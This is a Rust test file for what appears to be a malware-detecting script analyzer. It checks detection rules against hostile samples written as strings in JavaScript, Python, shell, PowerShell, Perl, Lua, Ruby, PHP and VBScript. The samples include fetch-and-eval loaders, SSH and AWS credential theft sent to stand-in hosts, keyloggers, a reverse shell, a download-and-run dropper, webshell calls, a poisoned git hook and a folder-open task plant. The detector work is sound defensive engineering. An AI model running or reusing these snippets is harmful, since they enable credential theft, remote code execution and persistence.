//! What is reached by ways on which a call, a value or a file takes a turn: promises and listeners, bound functions,
//! getters, generators, archives, functions of shells, and the scripting host in its own language.

use super::{Language, command, flows, outcome, rules, subject};
use crate::analyze::script::event::Act;

#[track_caller]
pub(super) fn has(language: Language, code: &str, rule: &str) {
    let found = rules(language, code);
    assert!(found.contains(&rule), "{rule} not in {found:?}: {code}");
}

#[track_caller]
pub(super) fn has_not(language: Language, code: &str, rule: &str) {
    let found = rules(language, code);
    assert!(!found.contains(&rule), "{rule} in {found:?}: {code}");
}

#[test]
fn what_a_promise_is_settled_with_comes_out_of_it() {
    let code = "const { get } = require('https');\nfunction load(u) { return new Promise((ok, no) => get(u, (r) => { const p = []; \
                r.on('data', (d) => p.push(d)); r.on('end', () => ok(Buffer.concat(p).toString())) }).on('error', no)) }\n\
                (async () => { (0, eval)(await load('https://h.invalid/x')) })()";
    has(Language::JavaScript, code, "flow-remote-code");
    has_not(Language::JavaScript, &code.replace("ok(Buffer.concat(p).toString())", "ok('1 + 1')"), "flow-remote-code");
}

#[test]
fn what_is_emitted_reaches_who_listens() {
    let code = "const bus = new (require('events'))(); bus.on('chunk', (t) => { new Function('require', t)(require) });\n\
                require('https').get('https://h.invalid/z', (r) => { let a = ''; r.on('data', (d) => { a += d }); \
                r.on('end', () => bus.emit('chunk', a)) })";
    has(Language::JavaScript, code, "flow-remote-code");
    has_not(Language::JavaScript, &code.replace("emit('chunk'", "emit('other'"), "flow-remote-code");
}

#[test]
fn functions_are_called_by_hand_and_bound() {
    for code in [
        "const c = require('child_process'); c.exec.call(c, 'echo hi')",
        "const c = require('child_process'); c.exec.apply(null, ['echo hi'])",
        "const c = require('child_process'); const f = c.exec.bind(c, 'echo hi'); f()",
        "const f = ((a, b) => require('child_process').exec(a + b)).bind(null, 'echo '); f('hi')",
        "require('child_process').exec(String.fromCharCode.apply(null, [101, 99, 104, 111, 32, 104, 105]))",
        "(function next(all, v) { return all.length ? next(all.slice(1), all[0](v)) : v })\
         ([s => s.trim(), s => require('child_process').exec(s)], ' echo hi ')",
        "const w = ['hi', 'echo']; require('child_process').exec([0, 1].sort((a, b) => b - a).map(i => w[i]).join(' '))",
        "const { spawn } = process.binding('spawn_sync'); spawn({ file: 'echo', args: ['echo', 'hi'] })",
    ] {
        assert_eq!(command(Language::JavaScript, code), "echo hi", "{code}");
    }
    let code = "import os, functools\nf = functools.partial(os.system, 'echo hi')\nf()";
    assert_eq!(command(Language::Python, code), "echo hi");
}

#[test]
fn members_that_are_made_when_they_are_asked_for() {
    for code in [
        "class A { get line() { return 'echo hi' } go() { require('child_process').exec(this.line) } } new A().go()",
        "class A { static #l = 'echo hi'; static get line() { return this.#l } static { require('child_process').exec(this.line) } }",
        "const o = { get line() { return 'echo ' + 'hi' } }; require('child_process').exec(o.line)",
        "const p = new Proxy({}, { get: (_, k) => require(k) }); p.child_process.exec('echo hi')",
        "const p = new Proxy(require('child_process'), {}); p.exec('echo hi')",
    ] {
        assert_eq!(command(Language::JavaScript, code), "echo hi", "{code}");
    }
}

#[test]
fn every_way_to_the_function_that_makes_functions() {
    for way in [
        "new (Function.constructor)('require', t)(require)",
        "Function['constructor']('require', t)(require)",
        "new ((async () => {}).constructor)('require', t)(require)",
        "new (Object.getPrototypeOf(async function () {}).constructor)(t)()",
        "[].filter.constructor(t)()",
        "''['sub']['constructor'](t)()",
    ] {
        let code = format!("fetch('https://h.invalid/a').then(r => r.text()).then(t => {{ {way} }})");
        has(Language::JavaScript, &code, "flow-remote-code");
    }
    let own = "fetch('https://h.invalid/a').then(r => r.text()).then(t => { new this.list.constructor(t); new t.shape.constructor(1) })";
    has_not(Language::JavaScript, own, "flow-remote-code");
}

#[test]
fn addresses_are_put_together() {
    let fetched = |code: &str| subject(&outcome(Language::JavaScript, code), Act::Fetch).to_owned();
    assert_eq!(fetched("fetch(new URL('/x', 'https://h.invalid/a/b'))"), "https://h.invalid/x");
    assert_eq!(fetched("fetch(new URL('x?y', 'https://h.invalid/a/b'))"), "https://h.invalid/a/x?y");
    let code =
        "const u = new URL('https://h.invalid/'); u.searchParams.set('d', JSON.stringify(process.env)); fetch(u)";
    has(Language::JavaScript, code, "flow-environment-sent");
    assert!(rules(Language::JavaScript, "const u = new URL('./x.wasm', import.meta.url); fetch(u)").is_empty());
}

#[test]
fn a_default_wins_over_a_variable_that_is_set_nowhere() {
    let code = "require('axios').get(process.env.BASE || 'http://h.invalid/x').then(r => eval(r.data))";
    has(Language::JavaScript, code, "flow-remote-code");
    assert_eq!(subject(&outcome(Language::JavaScript, code), Act::Fetch), "http://h.invalid/x");
}

#[test]
fn keys_that_a_page_is_told_of() {
    let code = "const b = []; document.addEventListener('keydown', (e) => b.push(e.key)); \
                setInterval(() => navigator.sendBeacon('https://h.invalid/k', b.join('')), 5000)";
    has(Language::JavaScript, code, "flow-spied-sent");
    let search = "document.addEventListener('keydown', (e) => { if (e.key === 'Enter') fetch('https://h.invalid/q') })";
    has_not(Language::JavaScript, search, "flow-spied-sent");
}

#[test]
fn archives_hold_what_is_put_into_them() {
    let code = "import os, io, zipfile, urllib.request\nb = io.BytesIO()\nwith zipfile.ZipFile(b, 'w') as z:\n    \
                for d, _, fs in os.walk(os.path.join(os.path.expanduser('~'), '.ssh')):\n        for f in fs:\n            \
                z.write(os.path.join(d, f))\nurllib.request.urlopen('https://h.invalid/z', b.getvalue())";
    has(Language::Python, code, "flow-credentials-sent");
    has_not(Language::Python, &code.replace(".ssh", "notes"), "flow-credentials-sent");
    let code =
        "t=$(mktemp -d)\ntar czf $t/b.tgz -C \"$HOME\" .ssh .aws\ncurl -sF \"file=@$t/b.tgz\" https://h.invalid/u";
    has(Language::Shell, code, "flow-credentials-sent");
    has_not(Language::Shell, &code.replace(".ssh .aws", "src"), "flow-credentials-sent");
}

#[test]
fn generators_hand_out_one_thing_after_another() {
    let code = "import httpx\nfrom pathlib import Path\nclass C:\n    paths = ('~/.ssh/id_rsa', '~/.aws/credentials')\n    @classmethod\n    \
                def items(cls):\n        for p in cls.paths:\n            q = Path(p).expanduser()\n            if q.is_file():\n                \
                yield q.name, q.read_text()\nhttpx.post('https://h.invalid/u', json=dict(C.items()))";
    has(Language::Python, code, "flow-credentials-sent");
    let code = "import os\ndef letters():\n    for n in (101, 99, 104, 111):\n        yield chr(n)\nos.system(''.join(letters()))";
    assert_eq!(command(Language::Python, code), "echo");
}

#[test]
fn what_grows_with_every_call_of_a_library_has_no_length() {
    let code = "import requests\nfrom pynput.keyboard import Listener\nb = []\ndef p(k):\n    b.append(str(k))\n    if len(b) > 200:\n        \
                requests.post('https://h.invalid/k', data={'d': ''.join(b)})\nListener(on_press=p).run()";
    has(Language::Python, code, "flow-spied-sent");
}

#[test]
fn trees_that_are_written_over() {
    let code = "import os\nfor r, ds, fs in os.walk(os.path.expanduser('~')):\n    for f in fs:\n        \
                open(os.path.join(r, f), 'wb').write(b'\\0')";
    has(Language::Python, code, "flow-overwrites");
    let changes = code.replace("b'\\0'", "open(os.path.join(r, f), 'rb').read().strip()");
    has_not(Language::Python, &changes, "flow-overwrites");
    has_not(Language::Python, &code.replace("expanduser('~')", "abspath('build')"), "flow-overwrites");
}

#[test]
fn functions_of_shells_are_called_with_words() {
    has(Language::Shell, "f() { curl \"$1\" | sh; }\nf https://h.invalid/x", "flow-remote-code");
    let set = "f() { u=https://h.invalid/x; }\nf\ncurl $u | sh";
    assert_eq!(subject(&outcome(Language::Shell, set), Act::Fetch), "https://h.invalid/x");
    let code = "function Get-It { param([string]$Uri, $n = 1) iex (iwr $Uri) }\nGet-It -n 3 -uri 'https://h.invalid/x'";
    has(Language::PowerShell, code, "flow-remote-code");
    assert_eq!(subject(&outcome(Language::PowerShell, code), Act::Fetch), "https://h.invalid/x");
}

#[test]
fn powershell_puts_names_together() {
    for code in [
        "& ($env:ComSpec[4,15,25] -join '') 'iwr https://h.invalid/x | iex'",
        "sal x ('{1}{0}' -f 'ex','i'); x 'iwr https://h.invalid/x | iex'",
        "$a = 'i-e-x' -replace '-',''; & $a 'iwr https://h.invalid/x | iex'",
        "$c = New-Object Net.Sockets.TCPClient('192.0.2.1', 4444); $s = $c.GetStream(); $i = $s.Read($b, 0, 9); \
         iex ([text.encoding]::ASCII.GetString($b, 0, $i))",
    ] {
        has(Language::PowerShell, code, "flow-remote-code");
    }
    let load = "$b = [Convert]::FromBase64String((New-Object Net.WebClient).DownloadString('https://h.invalid/s'))\n\
                [System.Reflection.Assembly]::Load($b).EntryPoint.Invoke($null, $null)";
    has(Language::PowerShell, load, "flow-download-run");
    has_not(Language::PowerShell, "[System.Reflection.Assembly]::Load((gc x.dll))", "flow-download-run");
}

#[test]
fn light_languages_have_ways_of_their_own() {
    let perl = "use Socket; socket(S, PF_INET, SOCK_STREAM, getprotobyname('tcp')); connect(S, sockaddr_in(4444, inet_aton('192.0.2.1'))); \
                open(STDIN, '>&S'); open(STDOUT, '>&S'); exec('/bin/sh -i');";
    has(Language::Perl, perl, "flow-reverse-shell");
    has_not(Language::Perl, "open(STDERR, '>&STDOUT'); open(STDIN, '<', $f);", "flow-reverse-shell");
    let lua = "local http = require('socket.http')\nloadstring(http.request('https://h.invalid/l'))()";
    has(Language::Lua, lua, "flow-remote-code");
    has(
        Language::Ruby,
        "require 'open-uri'\nKernel.send(:eval, URI.open('https://h.invalid/r').read)",
        "flow-remote-code",
    );
    let severity = |code: &str| {
        let outcome = outcome(Language::Php, code);
        let flows = flows::judge(&outcome, false);
        let flow = flows.iter().find(|f| f.rule.id == "flow-remote-command");
        flow.map(|f| f.severity.unwrap_or(f.rule.severity))
    };
    use crate::model::Severity;
    for code in [
        "<?php $f = implode('', array('s','y','s','t','e','m')); foreach ([$_GET] as $s) { foreach ($s as $n => $v) { $f(base64_decode($v)); } }",
        "<?php call_user_func_array(strrev('metsys'), [$_SERVER['HTTP_X']]);",
    ] {
        assert_eq!(severity(code), Some(Severity::High), "{code}");
    }
    let tool = "<?php system('convert ' . $_GET['file'] . ' out.png');";
    assert_ne!(severity(tool), Some(Severity::High));
}

#[test]
fn the_scripting_host_speaks_its_own_language() {
    let code = "Set h = CreateObject(\"MSXML2.XMLHTTP\")\nh.Open \"GET\", \"https://h.invalid/p.exe\", False\nh.Send\n\
                Set s = CreateObject(\"ADODB.Stream\")\ns.Type = 1 : s.Open : s.Write h.ResponseBody\n\
                f = CreateObject(\"WScript.Shell\").ExpandEnvironmentStrings(\"%TEMP%\") & \"\\p.exe\"\ns.SaveToFile f, 2\n\
                CreateObject(\"WScript.Shell\").Run f, 0, False";
    has(Language::VbScript, code, "flow-download-run");
    for code in [
        "Set o = CreateObject(\"WScript.Shell\")\no.Run \"echo hi\", 0",
        "Function d(a)\nDim i, r\nFor i = 0 To UBound(a)\nr = r & Chr(a(i) - 5)\nNext\nd = r\nEnd Function\n\
         CreateObject(\"WScript.Shell\").Run d(Array(106, 104, 109, 116, 37, 109, 110))",
        "ExecuteGlobal StrReverse(\"\"\"ih ohce\"\" nuR.)\"\"llehS.tpircSW\"\"(tcejbOetaerC\")",
        "x = Split(\"hi,echo\", \",\")\nIf 1 = 1 Then CreateObject(\"WScript.Shell\").Run x(1) & \" \" & x(0) Else y",
    ] {
        assert_eq!(command(Language::VbScript, code), "echo hi", "{code}");
    }
    let fetch = "Execute(Http(\"https://h.invalid/c\"))\nFunction Http(u)\nWith CreateObject(\"WinHttp.WinHttpRequest.5.1\")\n\
                 .Open \"GET\", u, False : .Send : Http = .ResponseText\nEnd With\nEnd Function";
    has(Language::VbScript, fetch, "flow-remote-code");
    has_not(
        Language::VbScript,
        "MsgBox \"x\" & 1\nSet f = CreateObject(\"Scripting.FileSystemObject\")",
        "flow-remote-code",
    );
}

#[test]
fn bytes_are_changed_one_by_one() {
    // "echo hi" under 7.
    let code = "const b = Buffer.from('62646f68276f6e', 'hex'); for (let i = 0; i < b.length; i++) b[i] ^= 7; \
                require('child_process').exec(b.toString())";
    assert_eq!(command(Language::JavaScript, code), "echo hi");
    let code = "import os\nb = bytearray(bytes.fromhex('62646f68276f6e'))\nfor i in range(len(b)):\n    b[i] ^= 7\nos.system(b.decode())";
    assert_eq!(command(Language::Python, code), "echo hi");
}

#[test]
fn values_are_written_as_json() {
    let code = "const fs = require('fs'); fs.writeFileSync('/x/.vscode/tasks.json', \
                JSON.stringify({ tasks: [{ command: x, runOptions: { runOn: 'folderOpen' } }] }))";
    has(Language::JavaScript, code, "flow-task-planted");
    has_not(Language::JavaScript, &code.replace("folderOpen", "default"), "flow-task-planted");
    let code = "import json\nopen('/x/.vscode/tasks.json', 'w').write(json.dumps({'tasks': [{'runOptions': {'runOn': 'folderOpen'}}]}))";
    has(Language::Python, code, "flow-task-planted");
    // A value that holds itself ends.
    outcome(Language::JavaScript, "const a = [1]; a.push(a); fetch('https://h.invalid', { body: JSON.stringify(a) })");
}

#[test]
fn words_of_a_packer_are_put_back() {
    let code = "eval(function(p,a,c,k,e,d){while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+c+'\\\\b','g'),k[c])}}return p}\
                ('0(\"1\").2(\"3 4\")',10,5,'require|child_process|exec|echo|hi'.split('|'),0,{}))";
    assert_eq!(command(Language::JavaScript, code), "echo hi");
    // Parameters of such names do not say what a function does.
    let other = "eval(function(p,a,c,k,e,d){return \"require('child_process').exec('echo ho')\"}('0(1)',10,2,'x|y'.split('|'),0,{}))";
    assert_eq!(command(Language::JavaScript, other), "echo ho");
}

#[test]
fn settings_that_a_search_finds_are_sent() {
    let code = "import os, requests\nout = {}\nfor r, d, f in os.walk('/'):\n    for n in f:\n        if n == '.env':\n\
                \x20           out[n] = open(os.path.join(r, n)).read()\nrequests.post('https://h.invalid/u', json=out)";
    has(Language::Python, code, "flow-credentials-sent");
    has_not(Language::Python, &code.replace("'.env'", "'.txt'"), "flow-credentials-sent");
    has_not(Language::Python, &code.replace("https://h.invalid", "http://localhost"), "flow-credentials-sent");
}

#[test]
fn modules_in_the_hands_of_bundlers_are_still_modules() {
    let helper = "var __create = Object.create; var __getProtoOf = Object.getPrototypeOf; \
                  var __copyProps = (to, from) => { for (let key of Object.getOwnPropertyNames(from)) Object.defineProperty(to, key, { get: () => from[key] }); return to; };\n\
                  var __toESM = (mod, node, target) => (target = mod != null ? __create(__getProtoOf(mod)) : {}, \
                  __copyProps(node || !mod || !mod.__esModule ? Object.defineProperty(target, 'default', { value: mod, enumerable: true }) : target, mod));\n";
    let code = format!("{helper}var c = __toESM(require('child_process'), 1); c.default.exec('echo hi')");
    assert_eq!(command(Language::JavaScript, &code), "echo hi");
    let code = format!("{helper}var c = __toESM(require('child_process')); (0, c.exec)('echo hi')");
    assert_eq!(command(Language::JavaScript, &code), "echo hi");
    let code = "function wrap(e) { var n = Object.create(null); Object.keys(e).forEach((k) => { n[k] = e[k] }); n.default = e; return Object.freeze(n) }\n\
                var c = wrap(require('child_process')); c.exec('echo hi')";
    assert_eq!(command(Language::JavaScript, code), "echo hi");
}

#[test]
fn hooks_of_repositories_that_fetch_what_they_run() {
    let code =
        "require('fs').writeFileSync('/x/.git/hooks/pre-push', '#!/bin/sh\\ncurl -s https://h.invalid/p | sh\\n')";
    has(Language::JavaScript, code, "flow-persists");
    has_not(Language::JavaScript, &code.replace("curl -s https://h.invalid/p | sh", "npm test"), "flow-persists");
}

#[test]
fn classes_are_values_and_their_members_are_asked_for() {
    let code = "const m = {}; m.made = class { constructor(v) { fetch('https://h.invalid/x', { method: 'POST', body: JSON.stringify(v) }) } };\n\
                new m.made(process.env)";
    has(Language::JavaScript, code, "flow-environment-sent");
    let code = "import os, requests\nclass A:\n    @property\n    def data(self):\n        return dict(os.environ)\n\
                requests.post('https://h.invalid/x', json=A().data)";
    has(Language::Python, code, "flow-environment-sent");
    has_not(Language::Python, &code.replace("dict(os.environ)", "1"), "flow-environment-sent");
    let code = "import threading, urllib.request\nclass W(threading.Thread):\n    def __init__(self, u):\n        super().__init__(daemon=True)\n\
                \x20       self.u = u\n    def run(self):\n        exec(urllib.request.urlopen(self.u).read())\nW('https://h.invalid/x').start()";
    has(Language::Python, code, "flow-remote-code");
    let code = "import httpx\nc = httpx.Client(base_url='https://h.invalid')\nc.post('/k', data=open('/root/.ssh/id_rsa').read())";
    let found = outcome(Language::Python, code);
    assert!(found.events.iter().any(|e| e.subject.as_deref() == Some("https://h.invalid/k")));
}
